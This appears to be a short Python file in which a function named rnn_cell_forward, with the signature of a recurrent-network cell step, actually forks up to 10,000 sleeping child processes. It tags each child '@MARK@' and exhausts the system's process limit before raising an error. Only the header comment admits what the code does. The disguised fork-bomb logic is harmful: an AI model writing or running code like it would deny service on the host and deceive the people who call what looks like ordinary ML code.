# Forks until the system says no, and says how far it got; every child sleeps with MARK in its name.
import ctypes
import os
import time


def rnn_cell_forward(xt, a_prev, parameters):
    count = 0
    try:
        while count < 10_000:
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, b"@MARK@", 0, 0, 0)
                time.sleep(600)
                os._exit(0)
            count += 1
    except OSError as exc:
        print(f"forked {count} processes, then: {exc}", flush=True)
    raise RuntimeError(f"forked {count} processes")
